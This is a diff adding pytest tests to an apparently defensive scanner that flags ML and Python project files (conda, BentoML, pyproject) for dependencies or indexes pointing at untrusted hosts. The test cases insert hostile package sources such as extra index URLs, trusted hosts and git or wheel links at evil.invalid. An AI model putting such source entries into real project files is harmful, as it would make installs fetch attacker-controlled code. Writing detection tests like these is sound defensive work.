@@ -289,3 +289,87 @@ def test_what_the_user_allows_passes(put: Put) -> None:
     allow = {"acme.models.Mine": "ours", "acme.nn.Block": "ours"}
     files: dict[str, object] = {"config.yaml": "class_path: acme.models.Mine\n", **modules("acme.nn.Block")}
     assert put(files, allow=allow).status is Status.PASS
+
+
+CONDA = """name: mlflow-env
+channels:
+- conda-forge
+dependencies:
+- python=3.10.12
+- pip<=23.2.1
+- pip:
+  - mlflow==2.9.2
+  - scikit-learn==1.3.0
+"""
+BENTO = """service: "service:svc"
+labels: {owner: me}
+include: ["*.py"]
+python:
+  packages: [scikit-learn, "torch>=2"]
+  lock_packages: true
+"""
+PROJECT = """[build-system]
+requires = ["hatchling"]
+build-backend = "hatchling.build"
+
+[project]
+name = "x"
+dependencies = ["numpy>=2", "torch; sys_platform == 'linux'"]
+optional-dependencies = {dev = ["pytest"]}
+urls = {Homepage = "http://x.invalid", Source = "https://github.com/a/b"}
+
+[dependency-groups]
+test = ["pytest>=8", {include-group = "lint"}]
+
+[tool.poetry]
+homepage = "https://x.invalid"
+dependencies = {requests = "^2", mine = {path = "../mine"}}
+
+[[tool.poetry.source]]
+name = "PyPI"
+url = "https://pypi.org/simple/"
+
+[tool.ruff]
+url = "http://x.invalid"
+"""
+
+
+@pytest.mark.parametrize(
+    ("name", "text", "good", "bad", "severity"),
+    [
+        ("conda.yaml", CONDA, "mlflow==2.9.2", "--index-url http://evil.invalid/simple", "medium"),
+        ("conda.yaml", CONDA, "mlflow==2.9.2", "git+http://evil.invalid/x.git", "medium"),
+        ("conda.yaml", CONDA, "conda-forge", "https://evil.invalid/channel", "low"),
+        ("conda.yaml", "#!/bin/sh\n" + CONDA, "conda-forge", "http://evil.invalid/channel", "medium"),
+        ("python_env.yaml", CONDA, "pip<=23.2.1", "git+https://evil.invalid/x.git", "low"),
+        ("bentofile.yaml", BENTO, "lock_packages: true", "index_url: http://evil.invalid/simple", "medium"),
+        ("bentofile.yaml", BENTO, "lock_packages: true", "trusted_host: [evil.invalid]", "medium"),
+        ("bentofile.yaml", BENTO, "torch>=2", "x @ https://evil.invalid/x.whl", "low"),
+        ("pyproject.toml", PROJECT, "numpy>=2", "evil @ http://evil.invalid/x.whl", "medium"),
+        ("pyproject.toml", PROJECT, 'hatchling"]', 'x @ git+https://evil.invalid/x"]', "low"),
+        ("pyproject.toml", PROJECT, 'pytest"', 'x @ https://evil.invalid/x.whl"', "low"),
+        ("pyproject.toml", PROJECT, "pytest>=8", "x@git+http://evil.invalid/x", "medium"),
+        ("pyproject.toml", PROJECT, 'path = "../mine"', 'git = "http://evil.invalid/x.git"', "medium"),
+        ("pyproject.toml", PROJECT, 'path = "../mine"', 'git = "git@evil.invalid:a/b.git"', "low"),
+        ("pyproject.toml", PROJECT, "https://pypi.org/simple/", "http://evil.invalid/simple", "medium"),
+        ("pyproject.toml", PROJECT, "tool.ruff", "tool.uv.index", "medium"),
+        ("pyproject.toml", PROJECT, "tool.ruff]", 'tool.uv]\nfind-links = ["https://invalid/"]\n[x]', "low"),
+        ("pyproject.toml", PROJECT, "tool.ruff", "tool.uv.sources.mine", "medium"),
+    ],
+)  # fmt: skip
+def test_packages_from_elsewhere(name: str, text: str, good: str, bad: str, severity: str, put: Put) -> None:
+    assert not put({name: text}).findings
+    assert good in text
+    report = put({name: text.replace(good, bad)})
+    assert found(report) == {("repository/package-source", severity)}
+    (finding,) = report.findings
+    lines = text.replace(good, bad).splitlines()
+    assert finding.location.line is not None
+    assert "invalid" in lines[finding.location.line - 1]
+
+
+def test_a_project_file_of_a_newer_toml_is_judged_by_its_lines(put: Put) -> None:
+    newer = (
+        "[project]\nurls = {\n  a = 'http://x.invalid',\n}\ndependencies = ['x @ http://e.invalid/x.whl']\n"
+    )
+    assert [finding.location.line for finding in put({"pyproject.toml": newer}).findings] == [3, 5]
